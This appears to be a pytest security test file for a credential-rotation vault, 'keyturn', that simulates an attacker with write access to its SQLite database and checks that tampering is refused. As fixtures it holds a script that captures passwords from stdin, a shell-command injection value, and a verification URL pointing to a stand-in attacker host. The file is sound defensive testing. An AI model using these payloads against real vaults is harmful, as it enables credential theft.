"""Red team, database write access (issue 12 #6): what a direct write to the vault's tables can make
keyturn run. Each test performs the attack with plain sqlite3 on the vault file and shows it refused.

The attacker has the database, not the master key: they can change any column, but cannot compute a
record's integrity tag, unwrap the integrity key or make a key check.
"""

from __future__ import annotations

import json
import sqlite3
import sys
from pathlib import Path

import pytest

from keyturn.config import Settings
from keyturn.engine.outcome import Outcome
from keyturn.errors import DecryptionFailed, ImportFailed, RecordTampered, VaultSealed
from keyturn.scripts.attachments import ScriptAttachment, attachments_of, to_meta
from keyturn.vault import Field, Vault
from keyturn.vault.importers import parse
from tests.unit.api_world import open_api
from tests.unit.engine_world import OLD, World, open_world

# Writes everything it is given on stdin (the passwords) to a file: what an injected script would do.
STEAL = "import sys, pathlib; pathlib.Path(sys.argv[1]).write_text(sys.stdin.read())\n"


@pytest.fixture
def world(tmp_path: Path):  # type: ignore[no-untyped-def]
    yield from open_world(tmp_path)


def db(world: World) -> Path:
    return world.tmp_path / "home" / "keyturn.db"


def sql(path: Path, statement: str, *args: object) -> None:
    con = sqlite3.connect(path)
    con.execute(statement, args)
    con.commit()
    con.close()


def stored(path: Path, uid: str, column: str) -> str:
    con = sqlite3.connect(path)
    (value,) = con.execute(f"SELECT {column} FROM kt_records WHERE uid = ?", (uid,)).fetchone()
    con.close()
    return str(value)


def inject_script(world: World, uid: str) -> Path:
    """Attach the stealing script to a record by editing its meta JSON in the database."""
    loot = world.tmp_path / "loot.txt"
    script = world.tmp_path / "steal.py"
    script.write_text(STEAL)
    meta = json.loads(stored(db(world), uid, "meta_json"))
    meta["scripts"] = to_meta([ScriptAttachment(script=str(script), prefix=f"{sys.executable} {script}",
                                                env={}, timeout=30)])
    # The runner appends nothing to the prefix but the script path; make argv[1] the loot file.
    meta["scripts"][0]["prefix"] = f"{sys.executable} {script} {loot}"
    sql(db(world), "UPDATE kt_records SET meta_json = ? WHERE uid = ?", json.dumps(meta), uid)
    return loot


async def rotate(world: World):  # type: ignore[no-untyped-def]
    engine = world.engine()
    try:
        return await engine.rotate(world.user)
    finally:
        await engine.aclose()


async def test_control_a_script_attached_through_keyturn_runs(world: World) -> None:
    """The baseline the attack relies on: an attached script receives the passwords."""
    loot = world.tmp_path / "loot.txt"
    script = world.tmp_path / "steal.py"
    script.write_text(STEAL)
    world.vault.set_meta(world.user, "scripts", to_meta([ScriptAttachment(
        script=str(script), prefix=f"{sys.executable} {script} {loot}", timeout=30)]))
    result = await rotate(world)
    assert result.outcome is Outcome.ROTATED
    assert loot.exists()


async def test_script_injected_into_the_database_never_runs(world: World) -> None:
    loot = inject_script(world, world.user)
    result = await rotate(world)
    assert not loot.exists(), "the injected script ran and received the passwords"
    assert world.dev.password("netops") == OLD  # nothing was changed on the device either
    assert result.outcome is Outcome.FAILED
    assert f"record {world.user}" in result.reason and "integrity check" in result.reason
    assert f"keyturn vault reseal {world.user}" in result.reason
    with pytest.raises(RecordTampered):
        world.vault.get(world.user)


@pytest.mark.parametrize("what", ["shell", "profile", "type", "fields", "untagged"])
def test_every_authenticated_column_is_checked(world: World, what: str) -> None:
    path, uid = db(world), world.resource.uid
    if what == "shell":   # Keeper's Shell field: the command prefix of every script of the resource
        custom = json.loads(stored(path, uid, "custom_json"))
        custom.append({"type": "text", "label": "Shell", "value": ["/bin/sh -c 'cat > /tmp/x' #"]})
        sql(path, "UPDATE kt_records SET custom_json = ? WHERE uid = ?", json.dumps(custom), uid)
    elif what == "profile":  # a rotation-profile option pointing the verifier elsewhere
        uid = world.user
        meta = json.loads(stored(path, uid, "meta_json"))
        meta["rotation"]["options"] = {"verify_url": "http://attacker.example/steal"}
        sql(path, "UPDATE kt_records SET meta_json = ? WHERE uid = ?", json.dumps(meta), uid)
    elif what == "type":
        sql(path, "UPDATE kt_records SET type = 'pamMachine' WHERE uid = ?", uid)
    elif what == "fields":   # point the host field somewhere else
        sql(path, "UPDATE kt_records SET fields_json = ? WHERE uid = ?",
            json.dumps([{"type": "host", "label": None, "value": ["10.6.6.6"]}]), uid)
    else:                    # drop the tag: never "an old record", always refused
        sql(path, "UPDATE kt_records SET mac = NULL WHERE uid = ?", uid)
    with pytest.raises(RecordTampered) as err:
        world.vault.get(uid)
    assert err.value.record_uid == uid
    with pytest.raises(RecordTampered):
        world.vault.meta(uid)
    with pytest.raises(RecordTampered):
        world.vault.set_meta(uid, "note", "x")  # a write must not re-tag the injected content
    assert [r.uid for r in world.vault.tampered()] == [uid]


def test_title_lookup_cannot_be_redirected(world: World) -> None:
    """Pointing another record's lookup key at a title makes `rotate "sw1-admin"` pick it: refused."""
    sql(db(world), "UPDATE kt_records SET title_key = 'sw1-admin' WHERE uid = ?", world.user)
    sql(db(world), "UPDATE kt_records SET title_key = 'renamed' WHERE uid = ?", world.admin.uid)
    with pytest.raises(RecordTampered, match="title lookup key"):
        world.vault.get("sw1-admin")


def test_a_row_copied_from_another_record_is_refused(world: World) -> None:
    """Tags bind the uid: a record's (valid) columns and tag copied onto another uid do not verify."""
    con = sqlite3.connect(db(world))
    cols = "title, title_key, type, fields_json, custom_json, meta_json, mac"
    con.execute(f"UPDATE kt_records SET ({cols}) = (SELECT {cols} FROM kt_records WHERE uid = ?) "
                "WHERE uid = ?", (world.user, world.resource.uid))
    con.commit()
    con.close()
    with pytest.raises(RecordTampered):
        world.vault.get(world.resource.uid)


def test_removing_the_integrity_key_does_not_pass_for_an_old_vault(world: World) -> None:
    """Without the key a writer cannot forge a version-1 key check, so the one-time upgrade (which
    would tag the injected script) cannot be triggered again."""
    inject_script(world, world.user)
    world.vault.close()
    sql(db(world), "DELETE FROM kt_meta WHERE key = 'integrity_key'")
    sql(db(world), "UPDATE kt_records SET mac = NULL")
    with pytest.raises(VaultSealed, match="integrity key is missing"):
        Vault.open(Settings(home=world.tmp_path / "home"))


def test_reseal_after_review_is_audited(world: World) -> None:
    inject_script(world, world.user)
    world.vault.reseal(world.user, actor="cli:admin")
    rec = world.vault.get(world.user)
    assert attachments_of(rec)  # accepted, knowingly
    entry = world.vault.audit.list(action="record.reseal", limit=1)[0]
    assert entry.record_uid == world.user and entry.actor == "cli:admin"
    assert entry.details["scripts"] == ["meta.scripts (1 attachment)"]


def test_remove_still_works_on_a_tampered_record(world: World) -> None:
    inject_script(world, world.user)
    assert world.vault.summary(world.user).uid == world.user
    world.vault.remove(world.user, actor="cli:admin")
    assert world.vault.tampered() == []


# --- scripts only from the CLI ------------------------------------------------------------------------


def test_import_refuses_scripts_and_shell_unless_confirmed(world: World) -> None:
    keyturn_doc = json.dumps({"records": [{"title": "evil", "type": "pamUser", "meta": {"scripts": [
        {"script": "/tmp/steal.py"}]}}]})
    keeper_doc = json.dumps({"records": [{"title": "evil too", "$type": "pamNetworkDevice",
                                          "custom_fields": {"Shell": "/bin/sh"}}]})
    with pytest.raises(ImportFailed, match=r"record #1 \('evil'\): carries meta.scripts .*--allow-scripts"):
        parse(keyturn_doc, "keyturn")
    with pytest.raises(ImportFailed, match=r"custom field 'Shell'"):
        parse(keeper_doc, "keeper")
    specs = [*parse(keyturn_doc, "keyturn", allow_scripts=True),
             *parse(keeper_doc, "keeper", allow_scripts=True)]
    uids = world.vault.add_many(specs, actor="cli:admin")
    added = world.vault.audit.list(action="record.add", limit=2)
    assert {e.record_uid for e in added} == set(uids)
    assert sorted(str(e.details["scripts"]) for e in added) == [
        "[\"custom field 'Shell'\"]", "['meta.scripts (1 attachment)']"]


def test_import_without_scripts_is_unchanged() -> None:
    doc = json.dumps({"records": [{"title": "plain", "type": "login", "meta": {"note": "x"},
                                   "custom": [{"type": "text", "label": "Shelf", "value": ["A3"]}]}]})
    assert [r.title for r in parse(doc, "keyturn")] == ["plain"]


async def test_api_refuses_shell_but_keeps_an_existing_one(world: World) -> None:
    async for api in open_api(world):
        c, h = api.client, api.auth("admin")
        body = {"type": "pamNetworkDevice", "title": "sw9",
                "custom": [{"type": "text", "label": "Shell", "value": ["/bin/sh"]}]}
        r = await c.post("/records", json=body, headers=h)
        assert r.status_code == 422 and "Shell" in r.json()["detail"] and "CLI" in r.json()["detail"]
        body["custom"] = []
        uid = (await c.post("/records", json=body, headers=h)).json()["uid"]
        patch = {"custom": [{"type": "text", "label": "shell", "value": ["/bin/sh"]}]}
        r = await c.patch(f"/records/{uid}", json=patch, headers=h)
        assert r.status_code == 422
        # Set on the server through the CLI path; an API client round-tripping it is fine.
        world.vault.update(uid, custom=[Field("text", "Shell", ["/usr/bin/pwsh"])])
        rec = (await c.get(f"/records/{uid}", headers=h)).json()
        r = await c.patch(f"/records/{uid}", json={"title": "sw9b", "custom": rec["custom"]}, headers=h)
        assert r.status_code == 200, r.text
        r = await c.patch(f"/records/{uid}", json={"custom": [
            {"type": "text", "label": "Shell", "value": ["/bin/sh"]}]}, headers=h)
        assert r.status_code == 422


def test_secret_values_were_already_bound(world: World) -> None:
    """Why tags cover only the plain columns: a ciphertext moved between records already fails."""
    con = sqlite3.connect(db(world))
    blob = con.execute("SELECT ciphertext FROM kt_secret_versions WHERE record_uid = ?",
                       (world.admin.uid,)).fetchone()[0]
    con.execute("UPDATE kt_secret_versions SET ciphertext = ? WHERE record_uid = ?", (blob, world.user))
    con.commit()
    con.close()
    with pytest.raises(DecryptionFailed, match="failed authentication"):
        world.vault.secret(world.user)
